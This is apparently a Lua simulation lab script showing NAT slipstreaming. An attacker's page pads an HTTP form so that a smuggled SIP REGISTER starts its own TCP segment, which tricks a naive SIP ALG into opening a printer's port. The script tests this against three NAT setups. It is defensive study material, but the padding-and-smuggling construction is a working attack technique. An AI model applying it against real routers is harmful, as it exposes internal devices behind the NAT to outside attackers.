local lab = require "punchlab"

lab.title "NAT slipstreaming: a web page makes an ALG open a port"
lab.about [[
V visits a page of M's. The page makes V's browser send a form to M at port 5060. Browsers don't speak SIP: the request
begins with POST, and the form is data. But M chooses how long the form is, and it fills the last TCP segment but one to its
end, so that the next segment begins with REGISTER and looks like a SIP message from V. An ALG that takes each segment for a
message (quirk breaks-on-segments) believes it: V seems to ask for calls at 10.0.0.2:8080, so the ALG opens that port for M, and writes
the outside one into Contact, where M reads it. Now M connects to a printer's page that V's owner thought was behind the NAT.
No rule of the NAT was broken, and V sent all of it.

W does the same behind a box whose ALG reads streams (RFC 3261 section 18.3): this one does not begin as SIP does, so none of
it is. X's box has no ALG, as RFC 4787 REQ-10 has it for every box that nobody has told otherwise.]]

local internet = lab.internet { delay = "20ms" }
local M = internet:host("M", "198.51.100.66")

-- A home with something inside that listens on port 8080 and thinks itself safe.
local function home(name, address, configure)
  local nat = internet:nat("nat" .. name, address, { type = "port-restricted-cone", lan = "10.0.0.0/24" })
  local host = nat:host(name, "10.0.0.2")
  configure(nat)
  local printer = host:tcp_listen(8080)
  host:spawn(function()
    while true do
      local visitor, from = printer:accept()
      if not visitor then break end
      lab.note(("%s's printer is visited from %s"):format(name, from))
      visitor:send("printer of " .. name)
    end
  end, { background = true })
  return host, nat
end

local V, natV = home("V", "203.0.113.1", function(nat) nat:alg("sip", { quirk = "breaks-on-segments" }) end)
local W, natW = home("W", "203.0.113.2", function(nat) nat:alg("sip") end)
local X, natX = home("X", "203.0.113.3", function() end)

-- What the browser sends: a head, and a form that M has made so long that what follows it begins a segment.
local MSS = 1448                                   -- 1460 but for the timestamps
local function form(host)
  local register = table.concat({
    "REGISTER sip:example.com SIP/2.0",
    "Via: SIP/2.0/TCP " .. host.ip .. ":5060;branch=z9hG4bKslip",
    "From: <sip:victim@example.com>;tag=1", "To: <sip:victim@example.com>", "Call-ID: slip", "CSeq: 1 REGISTER",
    "Max-Forwards: 70", "Contact: <sip:victim@" .. host.ip .. ":8080;transport=tcp>", "Expires: 3600",
    "Content-Length: 0", "", "" }, "\r\n")
  local head = "POST / HTTP/1.1\r\nHost: m.example:5060\r\nContent-Type: text/plain\r\nContent-Length: %5d\r\n\r\n"
  local padding = 3 * MSS - #head:format(0)
  return head:format(padding + #register) .. ("x"):rep(padding) .. register
end

-- M's server: finds the Contact in what came, and calls there.
local server = M:tcp_listen(5060)
local function visited(host, nat)
  local opened = lab.watch { node = nat, action = "pinhole-opened" }
  local page = host:spawn(function()
    local socket = assert(host:tcp_connect(lab.endpoint(M, 5060)))
    socket:send(form(host))
    socket:recv "3s"
    socket:close()
  end)
  local visitor, got = server:accept(), ""
  lab.wait(function()
    local data = visitor:recv(0)
    if data then got = got .. data end
    return got:find("Content%-Length: 0\r\n\r\n")
  end, "2s")
  local target = got:match("Contact: <sip:victim@([%d.]+:%d+)")
  lab.note(("M reads that %s is to be called at %s"):format(host.name, target or "nowhere: the stream is broken"))
  local reached = false
  for _, endpoint in ipairs { target, nat.ip .. ":8080" } do
    local socket = M:tcp_connect(endpoint, { timeout = "2s" })
    if socket then
      reached = socket:recv("1s") == "printer of " .. host.name
      socket:close()
      break
    end
  end
  page:wait()
  visitor:reset()
  return reached, #opened
end

M:spawn(function()
  local naive, opened = visited(V, natV)
  local whole, opened_whole = visited(W, natW)
  local off, opened_off = visited(X, natX)
  lab.result("reached_naive", naive)
  lab.result("reached_whole", whole)
  lab.result("reached_off", off)
  lab.result("pinholes_naive", opened)
  lab.result("pinholes_whole", opened_whole)
  lab.expect(naive and opened > 0, "the ALG that takes a segment for a message opens the printer's port to M")
  lab.expect(not whole and opened_whole == 0, "one that reads the stream sees HTTP and opens nothing")
  lab.expect(not off and opened_off == 0, "where there is no ALG there is nothing to be made use of")
end)
